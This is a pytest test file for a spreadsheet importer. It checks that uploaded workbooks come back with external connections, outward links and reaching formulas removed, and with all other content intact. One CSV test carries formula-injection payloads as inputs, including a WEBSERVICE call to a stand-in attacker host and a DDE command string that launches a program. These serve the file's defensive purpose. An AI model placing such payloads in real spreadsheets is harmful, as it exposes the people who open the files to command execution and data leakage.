"""Nothing that runs or reaches outside is in the copy of a recipient's workbook; the rest of it is as they sent it."""

from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from importers.annotate import annotate
from importers.annotation.reach import reaches_out
from tests.importers.annotated import contents, marked, opened
from tests.importers.files import parts_of
from tests.importers.hostile.inspecting import EVIL, formulas_in, live_in, unquoted_in
from tests.importers.hostile.living import (
    HARMLESS,
    LINES,
    PARTLY,
    REACHING,
    WHOLLY,
    Parts,
    formulas,
    links,
    shared_formulas,
)
from tests.importers.making import AWARD, Typed, as_csv, checked, filled

SAVED = Path(__file__).parents[1] / "resaved"


def copy_of(data: bytes) -> bytes:
    return annotate(data, checked(data).problems)


def said(copy: bytes) -> list[str]:
    """The sentences above the list."""
    sheet = load_workbook(BytesIO(copy)).worksheets[0]
    rows = [[cell.value for cell in row if cell.value is not None] for row in sheet.iter_rows(max_row=9)]
    return [str(row[0]) for row in rows if len(row) == 1]


def test_what_looks_for_live_things_finds_them() -> None:
    """The files themselves are live, each of them: a copy without any would otherwise prove nothing."""
    for name, make in (PARTLY | WHOLLY).items():
        assert live_in(make()), name


@pytest.mark.filterwarnings("ignore:Unknown extension")
@pytest.mark.parametrize("name", PARTLY)
def test_what_reaches_out_is_taken_out_and_told_and_all_else_stays(name: str) -> None:
    data = PARTLY[name]()
    copy = copy_of(data)
    assert live_in(copy) == []
    book, before = opened(copy), opened(filled(AWARD, LINES))
    assert set(marked(book["Spend"])) == {"G7"}
    assert [row[2] for row in contents_of_list(copy)] == ["Spend, cell G7"]
    for sheet, cells in contents(before).items():
        kept = contents(book)[sheet]
        assert {place: kept.get(place) for place in cells} == cells
    told = any("not in this copy" in sentence for sentence in said(copy))
    assert told is (name not in ("parts left lying",))


def contents_of_list(copy: bytes) -> list[tuple[object, ...]]:
    sheet = load_workbook(BytesIO(copy)).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    start = next(at for at, row in enumerate(rows) if row[0] == "Number")
    return [row for row in rows[start + 1 :] if row[0] is not None]


@pytest.mark.parametrize("name", WHOLLY)
def test_what_cannot_be_taken_out_alone_leaves_a_copy_of_the_values(name: str) -> None:
    copy = copy_of(WHOLLY[name]())
    assert live_in(copy) == []
    assert formulas_in(copy) == []
    assert said(copy)[2].startswith("This is a copy of the values alone")
    book = opened(copy)
    assert book["Spend"]["G7"].value == "lots"
    assert set(marked(book["Spend"])) == {"G7"}


def test_the_listing_names_what_it_does_not_carry() -> None:
    assert (
        said(copy_of(WHOLLY["a connection"]()))[-1]
        == "Your own file holds a data connection, which must not go out with a copy."
    )
    assert said(copy_of(links()))[2:] == [
        "Each cell that is named here has a thick border and a note in its own sheet: an unbroken border for an error, a dashed one for "
        "a warning. All else is as you sent it, but for what is said below.",
        "Correct the cells, save the file and upload it again. A warning may stay as it is if you give a reason for it.",
        "Links to other places than cells are not in this copy: 4, the first at Spend, cell L0. Their words are.",
    ]


def test_formulas_that_stay_inside_stay_and_the_others_leave_their_results() -> None:
    sheet = opened(copy_of(formulas()))["Spend"]
    found = [sheet.cell(900 + at, 12) for at in range(len(HARMLESS) + len(REACHING))]
    assert [cell.data_type for cell in found] == ["f"] * len(HARMLESS) + ["s"] * len(REACHING)
    assert [cell.value for cell in found[len(HARMLESS) :]] == [
        f"was {900 + len(HARMLESS) + at}" for at in range(len(REACHING))
    ]
    shared = opened(copy_of(shared_formulas()))["Spend"]
    assert [shared[f"{letter}900"].value for letter in "LMNP"] == ["was"] * 4
    assert [shared[f"{letter}900"].data_type for letter in "QR"] == ["f", "f"]


def test_links_to_cells_stay() -> None:
    sheet = parts_of(copy_of(links()))["xl/worksheets/sheet3.xml"]
    assert sheet.count(b"<hyperlink ") == 1
    assert b'<hyperlink ref="L8" location="Spend!A1"/>' in sheet


def test_the_order_of_calculation_goes_with_a_formula() -> None:
    """It would name a cell without a formula, which spreadsheet programs take for damage."""
    chain = (
        '<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="L900" i="3"/></calcChain>'
    )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.calcChain+xml"

    def with_chain(formula: str) -> dict[str, bytes]:
        one = Parts().put("xl/calcChain.xml", chain, kind).point("xl/workbook.xml", "calcChain", "calcChain.xml")
        return parts_of(copy_of(one.cells(f'<c r="L900"><f>{formula}</f><v>1</v></c>').done()))

    assert "xl/calcChain.xml" in with_chain("SUM(1,2)")
    without = with_chain("UNKNOWN(1)")
    assert "xl/calcChain.xml" not in without
    assert b"calcChain" not in without["[Content_Types].xml"] + without["xl/_rels/workbook.xml.rels"]


@pytest.mark.parametrize("name", ["libreoffice.xlsx", "libreoffice_documents.xlsx", "libreoffice_odd.xlsx"])
def test_a_plain_workbook_loses_nothing(name: str) -> None:
    data = (SAVED / name).read_bytes()
    copy = annotate(data, ())
    assert formulas_in(copy) == formulas_in(data)
    assert parts_of(data).keys() <= parts_of(copy).keys()
    assert live_in(copy) == []
    assert len(said(copy)) == 2


def test_texts_of_a_csv_stay_texts_when_somebody_edits_their_cell() -> None:
    typed = [f'=WEBSERVICE("http://{EVIL}")', "@SUM(1)", "+44 20", "-x", "=cmd|'/C calc'!A0"]
    data = as_csv([Typed(reference=f"R{at}", description=text, net="lots") for at, text in enumerate(typed)])
    copy = copy_of(data)
    book = opened(copy)
    assert [cell.value for cell in book["CSV"]["C"]][1:] == typed
    assert unquoted_in(copy) == live_in(copy) == formulas_in(copy) == []


@given(
    st.text(st.sampled_from("\"'[]!|(),A1 =+SUM"), max_size=14),
    st.text(st.sampled_from("\"'[]!|(),A1 =+SUM"), max_size=14),
)
def test_whatever_stands_around_it_a_bare_call_to_elsewhere_is_seen(before: str, after: str) -> None:
    """Seen, or inside what every reader takes for a text, a name in quotation marks or a table's column."""
    formula = f"{before}WEBSERVICE(1){after}"
    quoted = before.count('"') % 2 or before.count("'") % 2 or "[" in before
    assert reaches_out(formula) or quoted
